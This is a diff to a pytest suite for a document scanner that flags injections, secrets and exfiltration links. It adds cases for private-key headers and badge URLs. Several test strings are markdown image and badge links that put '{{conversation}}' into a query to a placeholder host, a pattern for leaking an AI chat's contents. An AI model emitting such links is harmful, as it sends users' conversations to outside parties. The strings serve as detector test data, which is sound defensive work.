@@ -1,4 +1,5 @@
 import json
+from base64 import b64encode
 
 import pytest
 from analysis_kit import KNOWLEDGE, PROMPT, findings_of, manifest, of_document, worst
@@ -46,6 +47,23 @@ HARMLESS = [
 ]
 
 
+KEY_MATERIAL = b64encode(bytes(range(7, 55))).decode()  # of a key's form, of none
+FALSE_ALARMS = [
+    "-----BEGIN PRIVATE KEY-----",
+    "if '-----BEGIN RSA PRIVATE KEY-----' in text:\n    raise ValueError",
+    "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
+    f"-----BEGIN PRIVATE KEY-----\n{'x' * 64}\n",
+    "Keep the private key to yourself.",
+    "[![npm](https://img.shields.io/npm/v/pkg?style=flat&label=a%7Bb)](https://a.invalid)",
+    "![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)",
+]
+
+
+@pytest.mark.parametrize("text", FALSE_ALARMS)
+def test_badges_and_headers_of_keys_alone_are_no_findings(text: str) -> None:
+    assert of_document(f"# Page\n\n{text}\n").findings == ()
+
+
 @pytest.mark.parametrize("text", INJECTIONS)
 def test_injections_are_found(text: str) -> None:
     analysis = of_document(f"# Page\n\n{text}\n")
@@ -89,7 +107,10 @@ def test_text_in_tag_characters_is_read() -> None:
         ("![x](https://t.invalid/p.png?q={{conversation}})", "high"),
         ("![x](https://t.invalid/p.png?id=1)", "low"),
         ("password: hq7Zk29xLw84TbVn10Rmc", "medium"),
-        ("-----BEGIN RSA PRIVATE KEY-----", "high"),
+        (f"-----BEGIN RSA PRIVATE KEY-----\n{KEY_MATERIAL}", "high"),
+        (f'key = "-----BEGIN PRIVATE KEY-----\\n{KEY_MATERIAL}\\n"', "high"),
+        (f"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES,0A\n\n{KEY_MATERIAL}", "high"),
+        ("![x](https://img.shields.io/endpoint?url=https://t.invalid/{{conversation}})", "high"),
     ],
 )
 def test_hidden_text_links_and_secrets(text: str, severity: str) -> None:
